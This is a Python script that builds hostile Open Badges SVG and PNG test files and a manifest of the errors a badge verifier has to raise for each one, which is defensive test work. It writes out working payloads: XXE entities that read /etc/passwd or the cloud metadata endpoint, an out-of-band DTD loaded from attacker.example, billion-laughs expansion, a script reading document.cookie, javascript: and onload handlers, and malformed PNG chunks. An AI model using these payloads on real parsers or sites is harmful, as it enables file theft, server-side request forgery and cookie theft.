"""Write the hostile badge files and `badges.json` (run from anywhere: `python make_badges.py`).

Every file is built byte by byte here, CRCs by zlib, so each fails for one reason only. The token baked into
the files is a placeholder (extraction does not verify); the verification side is covered by
tests/verifier/test_badge_properties.py. Big inputs (over the byte, element, attribute and chunk caps) are not
stored: tests/verifier/test_hostile_badges.py generates them from the `generated` entries.
"""

from __future__ import annotations

import json
import struct
import zlib
from pathlib import Path

HERE = Path(__file__).parent
SVG = "http://www.w3.org/2000/svg"
OB3 = "https://purl.imsglobal.org/ob/v3p0"
PARSING = "https://www.w3.org/TR/vc-data-model#PARSING_ERROR"
NOT_A_BADGE = "urn:aigov:problem:not-a-badge"
TOKEN = "eyJhbGciOiJFZERTQSJ9.eyJpc3MiOiJkaWQ6d2ViOmNiLmV4YW1wbGUifQ.c2lnbmF0dXJl"
CREDENTIAL = f'<openbadges:credential verify="{TOKEN}"/>'
DOCTYPE_REFUSED = "DOCTYPE refused"
BADGE_MISMATCH = "urn:aigov:problem:badge-mismatch"
XLINK = "http://www.w3.org/1999/xlink"


def svg(body: str, *, prolog: str = "", root: str = f'<svg xmlns="{SVG}" xmlns:openbadges="{OB3}">') -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}{root}{body}</svg>\n'.encode()


def chunk(kind: bytes, body: bytes, *, crc: int | None = None, length: int | None = None) -> bytes:
    return (
        struct.pack(">I", len(body) if length is None else length)
        + kind
        + body
        + struct.pack(">I", zlib.crc32(kind + body) if crc is None else crc)
    )


SIG = b"\x89PNG\r\n\x1a\n"
IHDR = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
IDAT = chunk(b"IDAT", zlib.compress(b"\0\0"))
IEND = chunk(b"IEND", b"")


def itxt(text: bytes, *, keyword: bytes = b"openbadgecredential", flag: bytes = b"\0\0") -> bytes:
    return chunk(b"iTXt", keyword + b"\0" + flag + b"\0\0" + text)


def png(*chunks: bytes) -> bytes:
    return SIG + b"".join(chunks)


GOOD_PNG = png(IHDR, itxt(TOKEN.encode()), IDAT, IEND)
LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))

# name -> (bytes, attack, expected): expected is ("error", problem, phrase) or ("badge", kind, token).
# CHECKED: name -> phrase of the badge check's failure, for badges that extract but are not what the renderer draws.
VECTORS: dict[str, tuple[bytes, str, tuple[str, str, str]]] = {
    "control.svg": (svg(CREDENTIAL), "none: a minimal well-formed badge", ("badge", "svg", TOKEN)),
    "control.png": (GOOD_PNG, "none: a minimal well-formed badge", ("badge", "png", TOKEN)),
    "billion-laughs.svg": (
        svg(CREDENTIAL + "<text>&lol9;</text>", prolog=f'<!DOCTYPE svg [<!ENTITY lol0 "lol">{LAUGHS}]>'),
        "entity expansion (billion laughs)",
        ("error", PARSING, DOCTYPE_REFUSED),
    ),
    "xxe-file.svg": (
        svg(
            CREDENTIAL + "<text>&xxe;</text>",
            prolog='<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        ),
        "external entity: local file",
        ("error", PARSING, DOCTYPE_REFUSED),
    ),
    "xxe-http.svg": (
        svg(
            CREDENTIAL + "<text>&xxe;</text>",
            prolog='<!DOCTYPE svg [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
        ),
        "external entity: URL (SSRF)",
        ("error", PARSING, DOCTYPE_REFUSED),
    ),
    "xxe-parameter.svg": (
        svg(
            CREDENTIAL,
            prolog='<!DOCTYPE svg [<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;]>',
        ),
        "external parameter entity (out-of-band exfiltration)",
        ("error", PARSING, DOCTYPE_REFUSED),
    ),
    "doctype-only.svg": (
        svg(
            CREDENTIAL,
            prolog='<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
            '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
        ),
        "a harmless-looking external DTD",
        ("error", PARSING, DOCTYPE_REFUSED),
    ),
    "undeclared-entity.svg": (
        svg(CREDENTIAL + "<text>&xxe;</text>"),
        "reference to an undeclared entity",
        ("error", PARSING, "not well-formed SVG"),
    ),
    "xinclude.svg": (
        svg(
            CREDENTIAL + '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
            'parse="text"/>'
        ),
        "XInclude: must be ignored, never processed (an unknown element, which fails the badge check)",
        ("badge", "svg", TOKEN),
    ),
    "xinclude-credential.svg": (
        svg(
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="https://attacker.example/cred.svg"/>'
        ),
        "XInclude that would bring the credential in from elsewhere",
        ("error", NOT_A_BADGE, "no <openbadges:credential> element"),
    ),
    "two-credentials.svg": (
        svg(CREDENTIAL + '<openbadges:credential verify="a.b.c"/>'),
        "two credentials: which one would a reader pick?",
        ("error", PARSING, "2 <openbadges:credential> elements"),
    ),
    "no-credential.svg": (
        svg('<text data-field="mark">AI GOVERNANCE CERTIFIED</text>'),
        "a badge picture without a credential",
        ("error", NOT_A_BADGE, "no <openbadges:credential> element"),
    ),
    "credential-no-verify.svg": (
        svg('<openbadges:credential><![CDATA[{"type": ["VerifiableCredential"]}]]></openbadges:credential>'),
        "embedded-proof (unsigned JSON) credential instead of a VC-JWT",
        ("error", PARSING, "has no verify attribute"),
    ),
    "credential-wrong-namespace.svg": (
        svg(
            f'<ob:credential xmlns:ob="https://purl.imsglobal.org/ob/v2p0" verify="{TOKEN}"/>',
        ),
        "credential element in another namespace (OB 2.0)",
        ("error", NOT_A_BADGE, "no <openbadges:credential> element"),
    ),
    "root-wrong-namespace.svg": (
        svg(CREDENTIAL, root=f'<svg xmlns="http://example.com/not-svg" xmlns:openbadges="{OB3}">'),
        "root element <svg> outside the SVG namespace",
        ("error", PARSING, "root element is not <svg>"),
    ),
    "deep-nesting.svg": (
        svg("<g>" * 200 + CREDENTIAL + "</g>" * 200),
        "elements nested 200 deep",
        ("error", PARSING, "nested deeper than 64"),
    ),
    "not-well-formed.svg": (
        svg(CREDENTIAL + "<g>"),
        "unclosed element",
        ("error", PARSING, "not well-formed SVG"),
    ),
    "html.svg": (
        b"<!DOCTYPE html><html><body><svg></svg></body></html>",
        "an HTML page named .svg",
        ("error", PARSING, DOCTYPE_REFUSED),
    ),
    "html-no-doctype.svg": (
        f'<html><body><svg xmlns="{SVG}">{CREDENTIAL}</svg></body></html>'.encode(),
        "an HTML page with an SVG inside",
        ("error", PARSING, "root element is not <svg>"),
    ),
    "utf16.svg": (
        svg(CREDENTIAL).decode().replace('"UTF-8"', '"UTF-16"').encode("utf-16"),
        "UTF-16 (a BOM that is not UTF-8)",
        ("error", NOT_A_BADGE, "neither a PNG nor an SVG"),
    ),
    **{
        f"encoding-{name.replace('_', '-')}.svg": (
            svg(CREDENTIAL).replace(b'"UTF-8"', f'"{name}"'.encode()),
            f"an XML declaration naming {name}: expat takes no multi-byte encoding and raised ValueError (a 500)",
            ("error", PARSING, f"the encoding its XML declaration names ('{name}') cannot be read here"),
        )
        for name in ("shift_jis", "cp932", "euc-jp", "utf-7", "utf-32", "idna", "punycode", "undefined")
    },
    "truncated.png": (
        GOOD_PNG[:40],
        "PNG cut in the middle of a chunk",
        ("error", PARSING, "truncated PNG"),
    ),
    "no-iend.png": (
        png(IHDR, itxt(TOKEN.encode()), IDAT),
        "PNG without IEND",
        ("error", PARSING, "truncated PNG"),
    ),
    "bad-crc.png": (
        png(IHDR, chunk(b"iTXt", b"openbadgecredential\0\0\0\0\0" + TOKEN.encode(), crc=0), IDAT, IEND),
        "credential chunk with a wrong CRC-32",
        ("error", PARSING, "wrong CRC in chunk iTXt"),
    ),
    "two-itxt.png": (
        png(IHDR, itxt(TOKEN.encode()), itxt(b"a.b.c"), IDAT, IEND),
        "two credential chunks",
        ("error", PARSING, "2 'openbadgecredential' iTXt chunks"),
    ),
    "compressed-itxt.png": (
        png(IHDR, itxt(zlib.compress(b"\0" * 60000, 9), flag=b"\1\0"), IDAT, IEND),
        "compressed credential chunk (a small deflate bomb: refused without inflating)",
        ("error", PARSING, "is compressed"),
    ),
    "oversized-chunk-length.png": (
        png(IHDR, chunk(b"iTXt", b"openbadgecredential\0", length=0xFFFFFFFF)),
        "chunk length 2^32-1 (over the PNG limit of 2^31-1)",
        ("error", PARSING, "exceeds 2^31-1"),
    ),
    "length-past-end.png": (
        png(IHDR, chunk(b"iTXt", b"openbadgecredential\0", length=0x7FFFFFFF)),
        "chunk length 2^31-1 in a small file",
        ("error", PARSING, "declares 2,147,483,647 bytes"),
    ),
    "chunk-type-not-letters.png": (
        png(IHDR, chunk(b"iT\0t", b"x"), IEND),
        "chunk type with a NUL",
        ("error", PARSING, "is not four letters"),
    ),
    "first-not-ihdr.png": (
        png(itxt(TOKEN.encode()), IHDR, IDAT, IEND),
        "credential chunk before IHDR",
        ("error", PARSING, "first chunk is not IHDR"),
    ),
    "itxt-no-separators.png": (
        png(IHDR, chunk(b"iTXt", b"openbadgecredential\0\0\0" + TOKEN.encode()), IDAT, IEND),
        "credential chunk without its language and keyword separators",
        ("error", PARSING, "missing its separators"),
    ),
    "itxt-truncated.png": (
        png(IHDR, chunk(b"iTXt", b"openbadgecredential\0"), IDAT, IEND),
        "credential chunk that ends after the keyword",
        ("error", PARSING, "iTXt chunk is truncated"),
    ),
    "itxt-latin1.png": (
        png(IHDR, itxt("caf\u00e9".encode("latin-1")), IDAT, IEND),
        "credential text that is not UTF-8",
        ("error", PARSING, "is not UTF-8"),
    ),
    "no-itxt.png": (
        png(IHDR, IDAT, IEND),
        "a plain PNG",
        ("error", NOT_A_BADGE, "no iTXt chunk with keyword 'openbadgecredential'"),
    ),
    "other-keyword.png": (
        png(IHDR, itxt(TOKEN.encode(), keyword=b"openbadges"), IDAT, IEND),
        "an Open Badges 2.0 keyword",
        ("error", NOT_A_BADGE, "no iTXt chunk with keyword 'openbadgecredential'"),
    ),
    "signature-only.png": (SIG, "nothing after the PNG signature", ("error", PARSING, "truncated PNG")),
    "pdf.svg": (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n",
        "a PDF named .svg",
        ("error", NOT_A_BADGE, "neither a PNG nor an SVG"),
    ),
    "gif.png": (
        b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
        "a GIF named .png",
        ("error", NOT_A_BADGE, "neither a PNG nor an SVG"),
    ),
    "empty.svg": (b"", "an empty file", ("error", NOT_A_BADGE, "neither a PNG nor an SVG")),
    "whitespace.svg": (b" \n\t" * 100, "only whitespace", ("error", NOT_A_BADGE, "neither a PNG nor an SVG")),
}

# Badges that extract (the token is there) but that a browser shows differently from their text, or that run
# code: the badge check (verifier.compare_badge_text) fails each, naming the element or attribute (user audit).
ACTIVE: dict[str, tuple[bytes, str, str]] = {
    "script.svg": (
        svg(CREDENTIAL + "<script>alert(document.cookie)</script>"),
        "a script (runs where the SVG is opened on its own)",
        "element <script> (it runs code)",
    ),
    "style-element.svg": (
        svg(CREDENTIAL + "<style>[data-field=company-en]{display:none}</style>"),
        "a style sheet that hides the company's name",
        "element <style> (it restyles the badge)",
    ),
    "image-data-uri.svg": (
        svg(CREDENTIAL + '<image href="data:image/png;base64,AAAA" x="295" y="70" width="380" height="45"/>'),
        "a data: image drawn over the company's name",
        "element <image> (it draws a picture over the badge)",
    ),
    "image-external.svg": (
        svg(CREDENTIAL + '<image href="https://attacker.example/evil.png" width="760" height="292"/>'),
        "an external image (fetched by the browser, tracks visitors)",
        "element <image>",
    ),
    "foreign-object.svg": (
        svg(
            CREDENTIAL + '<foreignObject width="760" height="292"><div xmlns="http://www.w3.org/1999/xhtml">'
            "EVIL Corp.</div></foreignObject>"
        ),
        "HTML drawn over the badge",
        "element <foreignObject> (it draws HTML over the badge)",
    ),
    "use-external.svg": (
        svg(CREDENTIAL + '<use href="https://attacker.example/a.svg#name"/>'),
        "content copied in from another document",
        "element <use> (it copies in content from elsewhere)",
    ),
    "animation.svg": (
        svg(CREDENTIAL + '<text data-field="company-en">ACME<set attributeName="opacity" to="0"/></text>'),
        "an animation that hides a field after it is read",
        "element <set> (it changes the picture after it is checked)",
    ),
    "onload.svg": (
        svg(CREDENTIAL, root=f'<svg xmlns="{SVG}" xmlns:openbadges="{OB3}" onload="alert(1)">'),
        "an event handler on the root element",
        "<svg> has onload='alert(1)', an event handler",
    ),
    "opacity-zero.svg": (
        svg(CREDENTIAL + '<text data-field="company-en" opacity="0">ACME Corp.</text>'),
        "the company's name made transparent",
        "has opacity='0', an attribute the issuer's renderer never writes",
    ),
    "style-attribute.svg": (
        svg(CREDENTIAL + '<text data-field="company-en" style="display:none">ACME Corp.</text>'),
        "the company's name hidden by a style attribute",
        "has style='display:none'",
    ),
    "xlink-href.svg": (
        svg(
            CREDENTIAL
            + f'<text><textPath xmlns:xlink="{XLINK}" xlink:href="https://attacker.example/p#p"/></text>'
        ),
        "an external reference through xlink:href",
        "has xlink:href='https://attacker.example/p#p'",
    ),
    "javascript-link.svg": (
        svg(CREDENTIAL + '<a href="javascript:alert(1)"><rect width="760" height="292"/></a>'),
        "a javascript: link over the whole badge",
        "the link must be an https URL, not a javascript: URL",
    ),
    "http-link.svg": (
        svg(
            CREDENTIAL + '<a href="http://registry.example/credentials/x"><rect width="10" height="10"/></a>'
        ),
        "a plain-http link (rewritable on the way)",
        "plain http is allowed only to a loopback host",
    ),
    "xml-stylesheet.svg": (
        svg(CREDENTIAL, prolog='<?xml-stylesheet type="text/css" href="https://attacker.example/x.css"?>\n'),
        "an external style sheet by processing instruction",
        "a processing instruction <?xml-stylesheet",
    ),
}
CHECKED = {
    "xinclude.svg": "element <{http://www.w3.org/2001/XInclude}include> is not part of a badge",
    **{name: phrase for name, (_, _, phrase) in ACTIVE.items()},
}
VECTORS.update({name: (data, attack, ("badge", "svg", TOKEN)) for name, (data, attack, _) in ACTIVE.items()})

GENERATED = [
    {
        "name": "over-4-mib",
        "generator": "svg-padding",
        "size": 4 * 1024 * 1024 + 1,
        "attack": "a file over the 4 MiB cap",
        "error": {"problem": NOT_A_BADGE, "messageContains": "larger than 4,194,304 bytes"},
    },
    {
        "name": "many-elements",
        "generator": "svg-elements",
        "size": 50_001,
        "attack": "50,001 sibling elements",
        "error": {"problem": PARSING, "messageContains": "more than 50,000 elements"},
    },
    {
        "name": "long-attribute",
        "generator": "svg-attribute",
        "size": 64 * 1024 + 1,
        "attack": "an attribute of 64 Ki + 1 characters",
        "error": {"problem": PARSING, "messageContains": "longer than 65,536 characters"},
    },
    {
        "name": "long-verify",
        "generator": "svg-verify",
        "size": 1024 * 1024 + 1,
        "attack": "a verify attribute of 1 Mi + 1 characters",
        "error": {"problem": PARSING, "messageContains": "longer than 1,048,576 characters"},
    },
    {
        "name": "many-chunks",
        "generator": "png-chunks",
        "size": 10_001,
        "attack": "10,001 chunks",
        "error": {"problem": PARSING, "messageContains": "more than 10,000 chunks"},
    },
    {
        "name": "long-itxt",
        "generator": "png-itxt",
        "size": 1024 * 1024 + 1,
        "attack": "a credential chunk of 1 MiB + 1 bytes",
        "error": {"problem": PARSING, "messageContains": "longer than 1,048,576 bytes"},
    },
]


def main() -> None:
    entries = []
    for name, (data, attack, expected) in VECTORS.items():
        assert len(data) < 64 * 1024, name
        (HERE / name).write_bytes(data)
        entry: dict[str, object] = {"file": name, "attack": attack}
        if expected[0] == "error":
            entry["error"] = {"problem": expected[1], "messageContains": expected[2]}
        else:
            entry["badge"] = {"kind": expected[1], "token": expected[2]}
        if name in CHECKED:
            entry["check"] = {"outcome": "failed", "problem": BADGE_MISMATCH, "detailContains": CHECKED[name]}
        entries.append(entry)
    manifest = {
        "description": "Hostile baked badges and what verifier.extract_badge must do with each: raise BadgeError "
        "with `problem` and a message containing `messageContains`, or return a Badge of `kind` and `token`; "
        "where `check` is given, verifier.compare_badge_text(badge, the token's payload) must then have that "
        "`outcome`, `problem` and a detail containing `detailContains` (a badge that is not what the issuer's "
        "renderer draws fails the badge check). "
        "`generated` entries are too big to store; see tests/verifier/test_hostile_badges.py.",
        "vectors": entries,
        "generated": GENERATED,
    }
    (HERE / "badges.json").write_text(json.dumps(manifest, indent=2, ensure_ascii=False) + "\n", "utf-8")


if __name__ == "__main__":
    main()
